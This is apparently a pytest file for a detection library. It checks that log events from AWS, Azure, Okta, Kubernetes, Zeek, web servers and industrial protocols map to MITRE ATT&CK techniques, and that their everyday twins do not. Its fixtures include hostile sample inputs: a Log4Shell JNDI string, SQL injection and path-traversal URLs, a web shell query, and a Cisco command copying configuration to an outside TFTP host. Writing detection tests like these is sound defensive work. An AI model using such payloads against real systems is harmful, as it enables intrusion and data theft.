"""Facts about cloud, identity, software elsewhere, networks, mail, containers, control systems and phones."""

from __future__ import annotations

import tomllib
from importlib import resources

import pytest

from knowledge.alerts.events import Facts, shipped_facts
from knowledge.alerts.model import Field, Record, Role

FILES = ("cloud", "containers", "ics_mobile", "identity", "mail", "network", "saas")
ROLES = {"url": Role.URL, "user_agent": Role.USER_AGENT, "message": Role.MESSAGE, "command": Role.COMMAND}
DECISIVE = 0.6
HINT = 0.5

Fields = dict[str, str]


def record(fields: Fields) -> Record:
    """A record with these fields; those called like a role that a reader gives by value have it."""
    parts, at = [], 0
    for path, value in fields.items():
        parts.append(Field(path, value, at, at + len(value), ROLES.get(path, Role.DETAIL)))
        at += len(value) + 1
    return Record(format="json", fields=tuple(parts), start=0, end=at)


def strength(facts: Facts, fields: Fields, technique: str) -> float:
    """How strongly the facts say that a record shows a technique; 0 when none does."""
    return max((hit.fact.strength for hit in facts.hits(record(fields)) if technique in hit.fact.shows), default=0.0)


@pytest.fixture(scope="module")
def facts() -> Facts:
    return shipped_facts()


AWS = {"eventSource": "ec2.amazonaws.com", "userIdentity.type": "IAMUser"}
IAM = {"eventSource": "iam.amazonaws.com", "userIdentity.type": "IAMUser"}
S3 = {"eventSource": "s3.amazonaws.com", "userIdentity.type": "IAMUser"}
POD = {"verb": "create", "objectRef.resource": "pods", "user.username": "dev@example.com"}
EXCHANGE = {"Workload": "Exchange", "ResultStatus": "True"}

# Each: an event, what it shows, and an everyday twin of it that must not say so, or hardly.
CASES: dict[str, tuple[Fields, str, Fields]] = {
    "trail stopped": (
        {**AWS, "eventName": "StopLogging"},
        "T1562.008",
        {**AWS, "eventName": "GetTrailStatus"},
    ),
    "trail stopped, as ECS writes it": (
        {"event.provider": "cloudtrail.amazonaws.com", "event.action": "StopLogging"},
        "T1562.008",
        {"event.provider": "cloudtrail.amazonaws.com", "event.action": "StartLogging"},
    ),
    "flow logs deleted": (
        {**AWS, "eventName": "DeleteFlowLogs"},
        "T1562.008",
        {**AWS, "eventName": "CreateFlowLogs"},
    ),
    "detector off": (
        {**AWS, "eventName": "UpdateDetector", "requestParameters.enable": "false"},
        "T1562.001",
        {**AWS, "eventName": "UpdateDetector", "requestParameters.enable": "true"},
    ),
    "key for another user": (
        {**IAM, "eventName": "CreateAccessKey", "requestParameters.userName": "backup"},
        "T1098.001",
        {**IAM, "eventName": "GetAccessKeyLastUsed", "requestParameters.accessKeyId": "AKIA"},
    ),
    "administrator's policy attached": (
        {
            **IAM,
            "eventName": "AttachUserPolicy",
            "requestParameters.policyArn": "arn:aws:iam::aws:policy/AdministratorAccess",
        },
        "T1098.003",
        {
            **IAM,
            "eventName": "DetachUserPolicy",
            "requestParameters.policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess",
        },
    ),
    "second factor removed": (
        {**IAM, "eventName": "DeactivateMFADevice"},
        "T1556.006",
        {**IAM, "eventName": "EnableMFADevice"},
    ),
    "console without second factor": (
        {"eventName": "ConsoleLogin", "userIdentity.type": "IAMUser", "additionalEventData.MFAUsed": "No"},
        "T1078.004",
        {
            "eventName": "ConsoleLogin",
            "userIdentity.type": "IAMUser",
            "additionalEventData.MFAUsed": "Yes",
            "responseElements.ConsoleLogin": "Success",
        },
    ),
    "secret read": (
        {"eventSource": "secretsmanager.amazonaws.com", "eventName": "GetSecretValue"},
        "T1555.006",
        {
            "eventSource": "secretsmanager.amazonaws.com",
            "eventName": "GetSecretValue",
            "userIdentity.invokedBy": "rds.amazonaws.com",
        },
    ),
    "parameters decrypted": (
        {"eventName": "GetParametersByPath", "requestParameters.withDecryption": "true"},
        "T1555.006",
        {"eventName": "PutParameter", "requestParameters.name": "/app/level"},
    ),
    "snapshot shared": (
        {
            **AWS,
            "eventName": "ModifySnapshotAttribute",
            "requestParameters.attributeType": "CREATE_VOLUME_PERMISSION",
        },
        "T1537",
        {
            **AWS,
            "eventName": "DescribeSnapshotAttribute",
            "requestParameters.attributeType": "CREATE_VOLUME_PERMISSION",
        },
    ),
    "objects encrypted with the caller's key": (
        {
            **S3,
            "eventName": "CopyObject",
            "requestParameters.x-amz-server-side-encryption-customer-algorithm": "AES256",
        },
        "T1486",
        {**S3, "eventName": "CopyObject", "requestParameters.x-amz-server-side-encryption": "AES256"},
    ),
    "versions no longer kept": (
        {**S3, "eventName": "PutBucketVersioning", "requestParameters.VersioningConfiguration.Status": "Suspended"},
        "T1490",
        {**S3, "eventName": "PutBucketVersioning", "requestParameters.VersioningConfiguration.Status": "Enabled"},
    ),
    "objects expire at once": (
        {
            **S3,
            "eventName": "PutBucketLifecycle",
            "requestParameters.LifecycleConfiguration.Rule.Expiration.Days": "1",
        },
        "T1485.001",
        {**S3, "eventName": "GetBucketLifecycle"},
    ),
    "command on instances": (
        {"eventSource": "ssm.amazonaws.com", "eventName": "SendCommand"},
        "T1651",
        {"eventSource": "ssm.amazonaws.com", "eventName": "ListCommandInvocations"},
    ),
    "key pushed to an instance": (
        {"eventName": "SendSSHPublicKey", "requestParameters.instanceOSUser": "ec2-user"},
        "T1021.008",
        {"eventName": "DescribeInstances"},
    ),
    "opened to the internet": (
        {
            **AWS,
            "eventName": "AuthorizeSecurityGroupIngress",
            "requestParameters.ipPermissions.items.ipRanges.items.cidrIp": "0.0.0.0/0",
        },
        "T1562.007",
        {**AWS, "eventName": "DescribeSecurityGroups"},
    ),
    "left the organisation": (
        {"eventSource": "organizations.amazonaws.com", "eventName": "LeaveOrganization"},
        "T1666",
        {"eventSource": "organizations.amazonaws.com", "eventName": "DescribeOrganization"},
    ),
    "all rights fetched": (
        {**IAM, "eventName": "GetAccountAuthorizationDetails"},
        "T1087.004",
        {**IAM, "eventName": "ListUsers", "userIdentity.invokedBy": "config.amazonaws.com"},
    ),
    "graphics cards": (
        {**AWS, "eventName": "RunInstances", "requestParameters.instanceType": "p3.16xlarge"},
        "T1496.001",
        {**AWS, "eventName": "RunInstances", "requestParameters.instanceType": "t3.micro"},
    ),
    "GuardDuty: mining": (
        {"type": "CryptoCurrency:EC2/BitcoinTool.B!DNS", "severity": "8"},
        "T1496.001",
        {"type": "Recon:EC2/PortProbeUnprotectedPort", "severity": "2"},
    ),
    "GuardDuty: credentials of an instance": (
        {"type": "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS"},
        "T1552.005",
        {"type": "Policy:IAMUser/RootCredentialUsage"},
    ),
    "Azure: command on a machine": (
        {"operationName": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", "resultType": "Success"},
        "T1651",
        {"operationName": "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION", "resultType": "Success"},
    ),
    "Azure: logs off": (
        {"OperationNameValue": "Microsoft.Insights/diagnosticSettings/delete"},
        "T1562.008",
        {"OperationNameValue": "Microsoft.Insights/diagnosticSettings/write"},
    ),
    "Azure: role given": (
        {"operationName.value": "Microsoft.Authorization/roleAssignments/write"},
        "T1098.003",
        {"operationName.value": "Microsoft.Authorization/roleAssignments/read"},
    ),
    "Azure: link to a disk": (
        {"authorization.action": "Microsoft.Compute/disks/beginGetAccess/action"},
        "T1537",
        {"authorization.action": "Microsoft.Compute/disks/read"},
    ),
    "Entra: secret of an application": (
        {"activityDisplayName": "Add service principal credentials"},
        "T1098.001",
        {"activityDisplayName": "Update service principal"},
    ),
    "Entra: administrator": (
        {
            "OperationName": "Add member to role",
            "TargetResources.modifiedProperties.newValue": '"Global Administrator"',
        },
        "T1098.003",
        {"OperationName": "Add member to group", "TargetResources.modifiedProperties.newValue": '"Sales"'},
    ),
    "Entra: access rule deleted": (
        {"activityDisplayName": "Delete conditional access policy"},
        "T1556.009",
        {"activityDisplayName": "Update user"},
    ),
    "Entra: federation": (
        {"Operation": "Set domain authentication.", "Workload": "AzureActiveDirectory"},
        "T1484.002",
        {"Operation": "Update user.", "Workload": "AzureActiveDirectory"},
    ),
    "Entra: consent": (
        {"activityDisplayName": "Consent to application", "result": "success"},
        "T1528",
        {"activityDisplayName": "Remove delegated permission grant", "result": "success"},
    ),
    "Entra: spray": (
        {"riskEventType": "passwordSpray", "riskLevel": "high"},
        "T1110.003",
        {"ResultType": "50126", "AppDisplayName": "Office 365"},
    ),
    "Entra: prompt refused": (
        {"status.errorCode": "500121", "appDisplayName": "Azure Portal"},
        "T1621",
        {"status.errorCode": "0", "appDisplayName": "Azure Portal"},
    ),
    "M365: forwarding rule": (
        {**EXCHANGE, "Operation": "New-InboxRule", "Parameters.Name": "ForwardTo", "Parameters.Value": "x@example.net"},
        "T1114.003",
        {
            **EXCHANGE,
            "Operation": "New-InboxRule",
            "Parameters.Name": "MoveToFolder",
            "Parameters.Value": "Newsletters",
        },
    ),
    "M365: hiding rule": (
        {**EXCHANGE, "Operation": "New-InboxRule", "DeleteMessage": "True", "SubjectContainsWords": "invoice"},
        "T1564.008",
        {**EXCHANGE, "Operation": "New-InboxRule", "MoveToFolder": "Newsletters", "From": "news@example.com"},
    ),
    "M365: mailbox forwarded": (
        {**EXCHANGE, "Operation": "Set-Mailbox", "ForwardingSmtpAddress": "smtp:x@example.net"},
        "T1114.003",
        {**EXCHANGE, "Operation": "Set-Mailbox", "ProhibitSendQuota": "99 GB"},
    ),
    "M365: full access": (
        {**EXCHANGE, "Operation": "Add-MailboxPermission", "AccessRights": "FullAccess", "User": "EXAMPLE\\mallory"},
        "T1098.002",
        {**EXCHANGE, "Operation": "Get-MailboxPermission", "User": "EXAMPLE\\mallory"},
    ),
    "M365: audit log off": (
        {**EXCHANGE, "Operation": "Set-AdminAuditLogConfig", "UnifiedAuditLogIngestionEnabled": "False"},
        "T1562.008",
        {**EXCHANGE, "Operation": "Get-AdminAuditLogConfig"},
    ),
    "M365: guard removed": (
        {**EXCHANGE, "Operation": "Disable-AntiPhishRule", "Identity": "Default"},
        "T1562.001",
        {**EXCHANGE, "Operation": "Get-AntiPhishRule", "Identity": "Default"},
    ),
    "GCP: key": (
        {"protoPayload.methodName": "google.iam.admin.v1.CreateServiceAccountKey"},
        "T1098.001",
        {"protoPayload.methodName": "google.iam.admin.v1.GetServiceAccountKey"},
    ),
    "GCP: owner from outside": (
        {
            "protoPayload.methodName": "SetIamPolicy",
            "serviceData.policyDelta.bindingDeltas.member": "user:x@gmail.com",
            "serviceData.policyDelta.bindingDeltas.role": "roles/owner",
        },
        "T1098.003",
        {"protoPayload.methodName": "GetIamPolicy"},
    ),
    "GCP: sink deleted": (
        {"protoPayload.methodName": "google.logging.v2.ConfigServiceV2.DeleteSink"},
        "T1562.008",
        {"protoPayload.methodName": "google.logging.v2.ConfigServiceV2.GetSink"},
    ),
    "GCP: firewall": (
        {"methodName": "v1.compute.firewalls.insert", "request.sourceRanges": "0.0.0.0/0"},
        "T1562.007",
        {"methodName": "v1.compute.firewalls.get"},
    ),
    "Okta: factors reset": (
        {"eventType": "user.mfa.factor.reset_all", "outcome.result": "SUCCESS"},
        "T1556.006",
        {"eventType": "user.authentication.auth_via_mfa", "outcome.result": "SUCCESS"},
    ),
    "Okta: push refused": (
        {"eventType": "user.mfa.okta_verify.deny_push", "outcome.result": "FAILURE"},
        "T1621",
        {"eventType": "system.push.send_factor_verify_push", "outcome.result": "SUCCESS"},
    ),
    "Okta: administrator": (
        {"okta.event_type": "x", "event.action": "user.account.privilege.grant"},
        "T1098.003",
        {"okta.event_type": "x", "event.action": "group.user_membership.add"},
    ),
    "Okta: identity provider": (
        {"eventType": "system.idp.lifecycle.create"},
        "T1484.002",
        {"eventType": "user.session.end"},
    ),
    "Workspace: second step off": (
        {"events.name": "2sv_disable", "id.applicationName": "login"},
        "T1556.006",
        {"events.name": "2sv_enroll", "id.applicationName": "login"},
    ),
    "Workspace: forwarding": (
        {"events.name": "email_forwarding_out_of_domain"},
        "T1114.003",
        {"events.name": "login_success"},
    ),
    "Duo: fraud": (
        {"reason": "user_marked_fraud", "factor": "duo_push", "result": "fraud"},
        "T1621",
        {"reason": "user_approved", "factor": "duo_push", "result": "success"},
    ),
    "GitHub: secret scanning off": (
        {"action": "repository_secret_scanning.disable", "actor": "dev"},
        "T1562.001",
        {"action": "repository_secret_scanning.enable", "actor": "dev"},
    ),
    "GitHub: branch": (
        {"event.action": "protected_branch.destroy", "actor": "dev"},
        "T1562.001",
        {"event.action": "pull_request.merge", "actor": "dev"},
    ),
    "GitHub: deleted": (
        {"action": "repo.destroy", "actor": "dev"},
        "T1485",
        {"action": "repo.archived", "actor": "dev"},
    ),
    "Snowflake: unloaded": (
        {"QUERY_TEXT": "COPY INTO 's3://drop/x' FROM customers"},
        "T1537",
        {"QUERY_TEXT": "SELECT count(1) FROM customers"},
    ),
    "Kubernetes: exec": (
        {**POD, "objectRef.subresource": "exec"},
        "T1609",
        {"verb": "get", "objectRef.resource": "pods", "user.username": "dev@example.com"},
    ),
    "Kubernetes: privileged": (
        {**POD, "requestObject.spec.containers.securityContext.privileged": "true"},
        "T1611",
        {**POD, "requestObject.spec.containers.securityContext.privileged": "false"},
    ),
    "Kubernetes: secrets": (
        {"verb": "list", "objectRef.resource": "secrets", "user.username": "system:serviceaccount:default:web"},
        "T1552.007",
        {"verb": "list", "objectRef.resource": "secrets", "user.username": "system:kube-controller-manager"},
    ),
    "Kubernetes: administrator": (
        {"verb": "create", "objectRef.resource": "clusterrolebindings", "requestObject.roleRef.name": "cluster-admin"},
        "T1098.006",
        {"verb": "get", "objectRef.resource": "clusterrolebindings", "user.username": "dev@example.com"},
    ),
    "Kubernetes: job": (
        {"verb": "create", "objectRef.resource": "cronjobs", "user.username": "dev@example.com"},
        "T1053.007",
        {"verb": "list", "objectRef.resource": "cronjobs", "user.username": "dev@example.com"},
    ),
    "Kubernetes: events deleted": (
        {"verb": "deletecollection", "objectRef.resource": "events", "user.username": "dev@example.com"},
        "T1070",
        {"verb": "create", "objectRef.resource": "events", "user.username": "system:node:n1"},
    ),
    "Docker: privileged": (
        {"HostConfig.Privileged": "true", "Image": "alpine"},
        "T1611",
        {"HostConfig.Privileged": "false", "Image": "alpine"},
    ),
    "Falco: metadata service": (
        {"rule": "Contact EC2 Instance Metadata Service From Container", "priority": "Notice"},
        "T1552.005",
        {"rule": "Unexpected UDP Traffic", "priority": "Notice"},
    ),
    "Falco: miner": (
        {"rule": "Detect crypto miners using the Stratum protocol"},
        "T1496.001",
        {"rule": "Container Run as Root User"},
    ),
    "Suricata: command server": (
        {"alert.signature": "ET MALWARE Win32/Stealer CnC Checkin", "event_type": "alert"},
        "T1071.001",
        {"alert.signature": "SURICATA STREAM Packet with invalid ack", "event_type": "alert"},
    ),
    "Snort line: EternalBlue": (
        {"alert.signature": "ET EXPLOIT Possible ETERNALBLUE MS17-010 Heap Spray"},
        "T1210",
        {"alert.signature": "ET INFO Session Traversal Utilities for NAT"},
    ),
    "Zeek: replication": (
        {"endpoint": "drsuapi", "operation": "DRSGetNCChanges", "named_pipe": "135"},
        "T1003.006",
        {"endpoint": "drsuapi", "operation": "DRSBind", "named_pipe": "135"},
    ),
    "Zeek: task": (
        {"endpoint": "ITaskSchedulerService", "operation": "SchRpcRegisterTask"},
        "T1053.005",
        {"endpoint": "ITaskSchedulerService", "operation": "SchRpcHighestVersion"},
    ),
    "Zeek: RC4 ticket": (
        {"request_type": "TGS", "cipher": "rc4-hmac", "service": "MSSQLSvc/db.example.com"},
        "T1558.003",
        {"request_type": "TGS", "cipher": "aes256-cts-hmac-sha1-96", "service": "MSSQLSvc/db.example.com"},
    ),
    "Zeek: guessing": (
        {"note": "SSH::Password_Guessing", "src": "203.0.113.9"},
        "T1110.001",
        {"note": "SSL::Certificate_Expires_Soon", "src": "203.0.113.9"},
    ),
    "web: Log4Shell": (
        {"url": "/?q=x", "user_agent": "${jndi:ldap://203.0.113.5/a}"},
        "T1190",
        {"url": "/?q=x", "user_agent": "Mozilla/5.0"},
    ),
    "web: SQL injection": (
        {"url": "/item.php?id=1%20UNION%20SELECT%20user,pass"},
        "T1190",
        {"url": "/trade-union/select-committee"},
    ),
    "web: traversal": (
        {"url": "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"},
        "T1190",
        {"url": "/remote/login?lang=en"},
    ),
    "web: shell": (
        {"url": "/uploads/shell.php?cmd=id"},
        "T1505.003",
        {"url": "/uploads/photo.png"},
    ),
    "web: Exchange's own page": (
        {"url": "/owa/auth/errorEE.aspx?x=1"},
        "T1505.003",
        {"url": "/owa/auth/logon.aspx?replaceCurrent=1"},
    ),
    "web: scanner": (
        {"url": "/", "user_agent": "Mozilla/5.00 (Nikto/2.1.6)"},
        "T1595.002",
        {"url": "/", "user_agent": "Mozilla/5.0 (compatible; Googlebot/2.1)"},
    ),
    "FortiGate: administrator": (
        {"logdesc": "Object attribute configured", "cfgpath": "system.admin", "action": "Add"},
        "T1136.001",
        {"logdesc": "Object attribute configured", "cfgpath": "system.dns", "action": "Edit"},
    ),
    "Palo Alto: scan": (
        {"type": "THREAT", "subtype": "scan"},
        "T1046",
        {"type": "TRAFFIC", "subtype": "end"},
    ),
    "Cisco: configuration read": (
        {"command": "copy running-config tftp://203.0.113.8/c"},
        "T1602.002",
        {"command": "show clock"},
    ),
    "ASA: scan": (
        {"message": "%ASA-4-733101: Object 203.0.113.4 (is targeted) exceeded"},
        "T1046",
        {"message": "%ASA-6-302013: Built outbound TCP connection"},
    ),
    "DNS filter: tunnel": (
        {"categories": "DNS Tunneling VPN", "querytype": "TXT"},
        "T1071.004",
        {"categories": "Software/Technology", "querytype": "A"},
    ),
    "Proofpoint: attachment": (
        {"threatsInfoMap.threatType": "attachment", "threatsInfoMap.threatStatus": "active", "subject": "Order"},
        "T1566.001",
        {"subject": "Order", "completelyRewritten": "na"},
    ),
    "Defender: phishing": (
        {"ThreatTypes": "Phish", "NetworkMessageId": "1", "SenderFromAddress": "a@example.net"},
        "T1566.002",
        {"ThreatTypes": "", "NetworkMessageId": "1", "SenderFromAddress": "a@example.net"},
    ),
    "mail: forged sender": (
        {"Authentication-Results": "mx.example.com; spf=fail; dkim=none; dmarc=fail", "Subject": "Invoice"},
        "T1672",
        {"Authentication-Results": "mx.example.com; spf=pass; dkim=pass; dmarc=pass", "Subject": "Invoice"},
    ),
    "mail: disk image": (
        {"Subject": "Invoice", "filename": "invoice.iso"},
        "T1566.001",
        {"Subject": "Invoice", "filename": "invoice.pdf"},
    ),
    "Modbus: write": (
        {"func": "WRITE_MULTIPLE_REGISTERS", "id.resp_p": "502"},
        "T0855",
        {"func": "READ_HOLDING_REGISTERS", "id.resp_p": "502"},
    ),
    "DNP3: restart": (
        {"fc_request": "COLD_RESTART"},
        "T0816",
        {"fc_request": "READ"},
    ),
    "Nozomi: program": (
        {"type_id": "SIGN:PROGRAM:DOWNLOAD"},
        "T0843",
        {"type_id": "VI:NEW-LINK"},
    ),
    "phone: aids misused": (
        {"threat_name": "App abusing Accessibility Service", "os": "Android 14"},
        "T1453",
        {"threat_name": "Outdated operating system", "os": "Android 14"},
    ),
    "phone: phishing": (
        {"threat_name": "Smishing link opened", "platform": "iOS"},
        "T1660",
        {"threat_name": "Smishing link opened", "platform": "Windows"},
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_the_event_shows_it_and_its_everyday_twin_hardly(name: str, facts: Facts) -> None:
    event, technique, twin = CASES[name]
    assert strength(facts, event, technique) >= DECISIVE
    assert strength(facts, twin, technique) <= HINT


@pytest.mark.parametrize(
    "fields",
    [
        {**AWS, "eventName": "DescribeInstances"},
        {**IAM, "eventName": "ListUsers"},
        {**S3, "eventName": "ListBuckets"},
        {"eventName": "GetCallerIdentity", "userIdentity.type": "AssumedRole"},
        {"verb": "list", "objectRef.resource": "pods", "user.username": "dev@example.com"},
        {"Operation": "FileAccessed", "Workload": "SharePoint"},
        {"eventType": "user.session.start", "outcome.result": "SUCCESS"},
        {"fc_request": "READ"},
        {"events.name": "view", "id.applicationName": "drive"},
        {"url": "/index.html", "user_agent": "Mozilla/5.0", "request_method": "GET"},
    ],
)
def test_what_happens_all_day_is_never_more_than_a_hint(fields: Fields, facts: Facts) -> None:
    assert all(hit.fact.strength <= HINT for hit in facts.hits(record(fields)))


def test_a_service_that_acts_for_itself_is_not_looking_around(facts: Facts) -> None:
    by_config = {**AWS, "eventName": "DescribeInstances", "userIdentity.invokedBy": "config.amazonaws.com"}
    assert facts.hits(record(by_config)) == ()


@pytest.mark.parametrize("name", FILES)
def test_a_fact_is_told_once_in_plain_words_with_its_page(name: str) -> None:
    raw = (resources.files("knowledge.alerts") / "data" / f"events_{name}.toml").read_text("utf-8")
    told = tomllib.loads(raw)["fact"]
    conditions = [(*each.get("all", ()), "|", *each.get("any", ()), *each["shows"]) for each in told]
    assert len(set(conditions)) == len(conditions)
    for fact in told:
        assert fact["source"].startswith("https://")
        assert not fact["says"].startswith(("The ", "A ", "An "))
        assert not fact["says"].endswith(".")
        assert 0.1 <= fact["strength"] <= 0.97
        assert len(fact["shows"]) <= 3
